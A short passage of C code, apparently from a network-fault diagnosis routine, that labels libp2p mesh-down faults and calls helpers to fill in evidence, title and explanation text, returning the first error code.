	    f->cause == DX_MESH_DOWN) && f->protos == DX_PROTO_LIBP2P)
		f->category = "libp2p";
	if ((rc = evidence_words(ev, f)) != 0 ||
	    (rc = title_words(ev, f)) != 0 ||
	    (rc = why_words(ev, f)) != 0)
		return rc;
	return 0;
}
